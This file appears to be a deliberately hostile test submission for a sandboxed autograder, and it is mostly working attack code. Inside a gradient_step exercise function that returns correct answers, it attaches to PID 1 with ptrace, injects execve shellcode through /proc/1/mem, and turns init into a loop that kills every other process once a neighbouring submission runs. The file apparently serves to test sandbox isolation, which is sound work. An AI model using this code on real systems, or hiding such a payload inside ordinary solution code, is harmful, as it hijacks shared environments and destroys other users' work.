# HOSTILE: takes over PID 1 of its sandbox (x86-64 Linux): attaches to it with ptrace, writes an
# execve into its code through /proc/1/mem and makes it a Python loop that, once another
# submission is staged in the same warm sandbox, kills every process it sees but the first two.
# A reset spares PID 1: were it anything student code may trace, it would outlive the
# submission. Its own answers are right: it attacks the neighbours.
import ctypes
import os
import struct
import sys

import numpy as np

MARKER = "gdkit-hostile-init-marker"
PAYLOAD = r'''
import os, signal, time
while True:
    time.sleep(0.01)
    try:
        with open("/submission/exercises/ex03_gradient_step.py") as source:
            if "gdkit-hostile-init-marker" in source.read():
                continue
    except OSError:
        continue
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) > 2:
            try:
                os.kill(int(entry), signal.SIGKILL)
            except OSError:
                pass
'''
TRIED = []


def _take_over_init():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    libc.ptrace.restype = ctypes.c_long
    if libc.ptrace(16, 1, None, None) != 0:  # PTRACE_ATTACH
        return
    os.waitpid(1, 0x40000000)  # __WALL
    regs = (ctypes.c_ulong * 27)()  # struct user_regs_struct
    libc.ptrace(12, 1, None, ctypes.addressof(regs))  # PTRACE_GETREGS
    base = regs[16] & ~0xFFF  # the page of its instruction pointer
    strings = [sys.executable.encode() + b"\0", b"-c\0", PAYLOAD.encode() + b"\0"]
    code_size = 29
    addresses, blob = [], b""
    for text in strings:
        addresses.append(base + code_size + 32 + len(blob))
        blob += text
    code = (b"\x48\xbf" + struct.pack("<Q", addresses[0])  # movabs rdi, path
            + b"\x48\xbe" + struct.pack("<Q", base + code_size)  # movabs rsi, argv
            + b"\x31\xd2" + b"\xb8\x3b\x00\x00\x00" + b"\x0f\x05")  # xor edx, edx; mov eax, 59; syscall
    with open("/proc/1/mem", "r+b", buffering=0) as memory:
        memory.seek(base)
        memory.write(code + struct.pack("<4Q", *addresses, 0) + blob)
    regs[16], regs[15] = base, 2**64 - 1  # rip; orig_rax = -1: no system call restarted
    libc.ptrace(13, 1, None, ctypes.addressof(regs))  # PTRACE_SETREGS
    libc.ptrace(17, 1, None, None)  # PTRACE_DETACH


def gradient_step(v, gradient, step_size):
    if not TRIED:
        TRIED.append(True)
        try:
            _take_over_init()
        except OSError:
            pass
    return np.asarray(v, dtype=float) + step_size * np.asarray(gradient, dtype=float)
